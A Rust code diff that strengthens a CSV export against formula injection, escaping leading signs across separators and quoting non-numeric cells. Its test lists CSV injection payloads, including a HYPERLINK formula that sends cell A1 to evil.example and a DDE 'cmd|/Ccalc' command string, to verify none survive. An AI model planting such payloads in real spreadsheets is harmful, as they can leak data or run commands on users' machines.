@@ -1,14 +1,15 @@
 //! The table as comma-separated values (RFC 4180), in UTF-8 with a byte order mark, by which spreadsheets recognise the encoding.
 //!
-//! Cells that a spreadsheet would take for a formula begin with an apostrophe
-//! (<https://owasp.org/www-community/attacks/CSV_Injection>).
+//! A text that a spreadsheet would take for a formula gets an apostrophe
+//! (<https://owasp.org/www-community/attacks/CSV_Injection>), also where it becomes a cell of its own because the file is opened with
+//! another separator. Every cell that is no number is quoted.
 
 use alloc::format;
 use alloc::string::{String, ToString};
 use alloc::vec;
 use alloc::vec::Vec;
 
-use csv_core::{Terminator, WriteResult, Writer, WriterBuilder};
+use csv_core::{QuoteStyle, Terminator, WriteResult, Writer, WriterBuilder};
 
 use crate::{ColumnKind, Matrix, Row};
 
@@ -34,11 +35,11 @@ impl Matrix {
         let mut file = File::new(separator);
         let mut header = vec!["url".to_string(), "score".to_string()];
         for column in &self.columns {
-            header.push(column.id.clone());
+            header.push(harmless(&column.id));
             if let Some(unit) = column.unit.as_deref().filter(|_| column.kind == ColumnKind::Number) {
-                header.push(format!("{} ({unit})", column.id));
+                header.push(harmless(&format!("{} ({unit})", column.id)));
             }
-            header.push(format!("{} (count)", column.id));
+            header.push(harmless(&format!("{} (count)", column.id)));
         }
         file.row(&header);
         for row in &self.rows {
@@ -85,9 +86,24 @@ fn number(value: f64, separator: Separator) -> String {
     if separator == Separator::Semicolon { text.replace('.', ",") } else { text }
 }
 
-/// A text that no spreadsheet takes for a formula.
+/// A text that no spreadsheet takes for a formula, or for a cell with a formula behind a separator: each sign that would begin one
+/// gets an apostrophe before it.
 fn harmless(text: &str) -> String {
-    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_string() }
+    let mut safe = String::with_capacity(text.len());
+    let mut may_begin = true;
+    for c in text.chars() {
+        let is_sign = matches!(c, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠');
+        if may_begin && is_sign {
+            safe.push('\'');
+        }
+        safe.push(c);
+        let separates = matches!(c, ',' | ';' | '|' | '\t' | '\n' | '\r');
+        // What is not seen before a sign does not keep a spreadsheet from taking it for the first one.
+        let is_unseen =
+            c == '"' || c.is_whitespace() || c.is_control() || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}');
+        may_begin = separates || may_begin && is_unseen;
+    }
+    safe
 }
 
 /// A file being written.
@@ -99,7 +115,8 @@ struct File {
 impl File {
     fn new(separator: Separator) -> Self {
         let delimiter = if separator == Separator::Semicolon { b';' } else { b',' };
-        let writer = WriterBuilder::new().delimiter(delimiter).terminator(Terminator::CRLF).build();
+        let writer =
+            WriterBuilder::new().delimiter(delimiter).terminator(Terminator::CRLF).quote_style(QuoteStyle::NonNumeric).build();
         Self { writer, bytes: b"\xEF\xBB\xBF".to_vec() }
     }
 
@@ -177,21 +194,57 @@ mod tests {
     fn writes_a_file() {
         assert_eq!(
             text(&["https://a.example/x,y"], Separator::Comma),
-            "\u{feff}url,score,title-length,title-length (characters),title-length (count),h1-present,h1-present (count)\r\n\
-             \"https://a.example/x,y\",71.5,warn,72,1,not_applicable,\r\n\
-             summary,71.5,pass 0 / warn 1 / fail 0,,1,pass 0 / warn 0 / fail 0,0\r\n"
+            "\u{feff}\"url\",\"score\",\"title-length\",\"title-length (characters)\",\"title-length (count)\",\"h1-present\",\
+             \"h1-present (count)\"\r\n\
+             \"https://a.example/x,y\",71.5,\"warn\",72,1,\"not_applicable\",\r\n\
+             \"summary\",71.5,\"pass 0 / warn 1 / fail 0\",,1,\"pass 0 / warn 0 / fail 0\",0\r\n"
         );
         let semicolons = text(&["https://a.example/"], Separator::Semicolon);
-        assert!(semicolons.contains("https://a.example/;71,5;warn;72;1;"), "{semicolons}");
+        assert!(semicolons.contains("\"https://a.example/\";\"71,5\";\"warn\";72;1;"), "{semicolons}");
     }
 
+    /// Addresses and names of columns, opened with the separator of the file and with others: no cell begins like a formula.
     #[test]
     fn no_cell_is_a_formula() {
-        for url in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"https://evil.example\")"] {
-            let found = text(&[url], Separator::Comma);
-            let mut reader = csv::ReaderBuilder::new().from_reader(found.as_bytes());
-            let row = reader.records().next().unwrap().unwrap();
-            assert_eq!(row.get(0), Some(&*format!("'{url}")));
+        for text in [
+            "=1+1",
+            "+1",
+            "-1",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "\n=1",
+            " =1",
+            "＝1",
+            "\u{feff}=1",
+            "\"=1",
+            "=HYPERLINK(\"https://evil.example\")",
+            "https://a.example/a;=HYPERLINK('http:evil.example?'&A1);",
+            "https://a.example/c;@SUM(1+1)*cmd|'/Ccalc'!A0;",
+            "https://a.example/d,=1\t+1|-1",
+            "https://a.example/e;\";\"=1",
+        ] {
+            let mut table = matrix(&[text]);
+            let column = Column { id: text.to_string(), ..table.columns[0].clone() };
+            table.columns.push(Column { unit: Some(text.to_string()), ..column });
+            for separator in [Separator::Comma, Separator::Semicolon] {
+                let file = String::from_utf8(table.to_csv(separator)).unwrap();
+                for delimiter in [b',', b';', b'\t', b'|'] {
+                    for quoting in [true, false] {
+                        let mut builder = csv::ReaderBuilder::new();
+                        builder.delimiter(delimiter).quoting(quoting).has_headers(false).flexible(true);
+                        let mut reader = builder.from_reader(file.trim_start_matches('\u{feff}').as_bytes());
+                        for row in reader.records().map(Result::unwrap) {
+                            let begins = |cell: &str| {
+                                let seen = cell.trim_start_matches(|c: char| c == '"' || c == '\u{feff}' || c.is_whitespace());
+                                seen.starts_with(['=', '+', '-', '@', '＝'])
+                            };
+                            let formula = row.iter().find(|cell| begins(cell));
+                            assert_eq!(formula, None, "{text:?} in a file with {separator:?}, read by {}", char::from(delimiter));
+                        }
+                    }
+                }
+            }
         }
     }
 
